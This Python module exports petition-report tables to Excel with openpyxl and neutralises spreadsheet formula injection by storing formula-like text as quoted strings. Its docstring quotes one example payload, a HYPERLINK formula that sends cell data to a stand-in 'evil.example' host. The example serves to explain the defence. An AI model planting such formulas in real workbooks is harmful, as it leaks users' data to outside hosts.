"""Spreadsheets (openpyxl): each report table as a sheet with Vietnamese headers, the cut-off date and the filters
written above it, real dates, percentages as numbers with a percent format, an autofilter and print titles.

Every cell goes through `_cell`, and every text in it through `as_text`: whatever an agency or a voter typed
is data, never a formula (OWASP, "CSV injection"): a reason like =HYPERLINK("http://evil.example/?d="&B2)
must not become a live link in the committee's workbook."""
from __future__ import annotations

import io
from collections.abc import Iterable, Iterator
from datetime import date, datetime
from itertools import chain, islice

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from reports.model import NOT_APPLICABLE, DocInfo, ItemRow, Mapped, Percent, Table

DATE_FORMAT = "DD/MM/YYYY"
DATETIME_FORMAT = "DD/MM/YYYY HH:MM"
PERCENT_FORMAT = "0.0%"
HEAD_FONT = Font(bold=True)
HEAD_FILL = PatternFill("solid", fgColor="E6E6E6")
WRAP = Alignment(wrap_text=True, vertical="top")
MAX_WIDTH = 60
WIDTH_SAMPLE = 200  # rows measured to size the columns: a long list is not read twice just for its widths


def _sheet_name(name: str, used: set[str]) -> str:
    # Excel: at most 31 characters, none of []:*?/\ , unique in the workbook.
    base = "".join(ch for ch in name if ch not in "[]:*?/\\")[:31] or "Sheet"
    candidate, n = base, 2
    while candidate in used:
        suffix = f" ({n})"
        candidate, n = base[:31 - len(suffix)] + suffix, n + 1
    used.add(candidate)
    return candidate


def _text(value) -> str:
    if isinstance(value, datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    if isinstance(value, date):
        return value.strftime("%d/%m/%Y")
    return str(value if value is not None else "")


def _width(headers: list[str], sample: list[list], column: int) -> float:
    values = [headers[column]] + [row[column] for row in sample]
    return min(max(max(len(_text(v)) for v in values) + 2, 8), MAX_WIDTH)


# What makes Excel (or LibreOffice, or a CSV reader) start a formula or a DDE call at the start of a cell.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell) -> None:
    """Keep a text cell a text: a string type (openpyxl would store "=..." as a formula) and Excel's quote
    prefix (the apostrophe of '=1+1), so that editing the cell later does not turn it into a formula either."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True


def _cell(ws, value, bold: bool = False):
    """One cell with its type kept: dates and timestamps as dates, shares as numbers shown in percent."""
    if isinstance(value, Percent):
        value, number_format = (value.value, PERCENT_FORMAT) if value.value is not None else (NOT_APPLICABLE, None)
    else:
        number_format = DATETIME_FORMAT if isinstance(value, datetime) else DATE_FORMAT if isinstance(value, date) \
            else None
    cell = WriteOnlyCell(ws, value=value)
    as_text(cell)
    if number_format:
        cell.number_format = number_format
    elif isinstance(value, str) and len(value) > MAX_WIDTH:
        cell.alignment = WRAP
    if bold:
        cell.font = HEAD_FONT
    return cell


def preamble(doc: DocInfo | None, title: str) -> list[str]:
    """What each sheet says above its table: its title and subject, then the cut-off date and the filters."""
    if doc is None:
        return [title]
    lines = [f"{title} — {doc.subject}"]
    detail = ([f"Số liệu tính đến ngày {_text(doc.as_of)}"] if doc.as_of else []) + list(doc.filters)
    if detail:
        lines.append("; ".join(detail))
    return lines


class _Ahead:
    """An iterator that can show its next item without taking it."""

    def __init__(self, items: Iterable):
        self._items, self._next = iter(items), None

    def __iter__(self):
        return self

    def __next__(self):
        if self._next is not None:
            item, self._next = self._next, None
            return item
        return next(self._items)

    def peek(self):
        if self._next is None:
            self._next = next(self._items, None)
        return self._next


def _merge_groups(tables: Iterable[Table]) -> Iterator[Table]:
    """Tables split by group in the PDF (one per field) become one sheet with the group as its first column. The
    groups' rows are read while the sheet is written: the next group is taken only when the previous one is done."""
    ahead = _Ahead(tables)
    for table in ahead:
        if not table.group:
            yield table
            continue

        def rows(first: Table = table):
            current = first
            while True:
                yield from ([current.group, *row] for row in current.rows)
                following = ahead.peek()
                if following is None or not following.group or following.sheet != first.sheet \
                        or following.headers != first.headers:
                    return
                current = next(ahead)

        head = table.title.split(":")[0] if ":" in table.title else "Nhóm"
        yield Table(table.sheet, [head, *table.headers], rows(), sheet=table.sheet)


def write_table(ws, table: Table, doc: DocInfo | None) -> None:
    """The preamble, the header row, the rows and the total; then the autofilter and the print titles. The rows are
    written as they are read (write-only sheet); the first WIDTH_SAMPLE size the columns, which come first."""
    rows = iter(table.rows)
    sample = list(islice(rows, WIDTH_SAMPLE))
    for i in range(len(table.headers)):
        ws.column_dimensions[get_column_letter(i + 1)].width = _width(table.headers, sample, i)
    lines = preamble(doc, table.title)
    header_row = len(lines) + 1
    ws.freeze_panes = f"A{header_row + 1}"
    for line in lines:
        ws.append([_cell(ws, line, bold=True)])
    head = []
    for text in table.headers:
        cell = _cell(ws, text, bold=True)
        cell.fill, cell.alignment = HEAD_FILL, WRAP
        head.append(cell)
    ws.append(head)
    written = 0
    for row in chain(sample, rows):
        ws.append([_cell(ws, v) for v in row])
        written += 1
    last = header_row + written
    if table.total_row:
        ws.append([_cell(ws, v, bold=True) for v in table.total_row])
    columns = get_column_letter(len(table.headers))
    ws.auto_filter.ref = f"A{header_row}:{columns}{max(last, header_row)}"  # the total row stays out of the filter
    ws.print_title_rows = f"{header_row}:{header_row}"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.fitToWidth = 1


def workbook(tables: Iterable[Table], doc: DocInfo | None = None) -> bytes:
    """One sheet per table, written as its rows are read (write-only mode: a 40,000-row list streams to a temporary
    file instead of living in memory)."""
    wb = Workbook(write_only=True)
    used: set[str] = set()
    for table in _merge_groups(tables):
        write_table(wb.create_sheet(_sheet_name(table.sheet or table.title, used)), table, doc)
    if not used:
        wb.create_sheet("Trống")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def items_table(items: Iterable[ItemRow], title: str = "Danh sách kiến nghị") -> Table:
    """The columns of a petition list export."""
    headers = ["Mã", "Nội dung tóm tắt", "Địa bàn", "Lĩnh vực", "Cơ quan chủ trì", "Trạng thái", "Kỳ họp",
               "Ngày chuyển", "Hạn trả lời", "Ngày trả lời", "Văn bản trả lời", "Số ngày quá hạn", "Khẩn"]
    rows = Mapped(items, lambda i: [i.code, i.summary, i.locality, i.field, i.agency, i.status_label,
                                    i.session_number, i.transferred_on, i.due_date, i.answered_on, i.answer_letter,
                                    i.days_late, "Có" if i.urgent else ""])
    return Table(title, headers, rows, sheet="Danh sách")
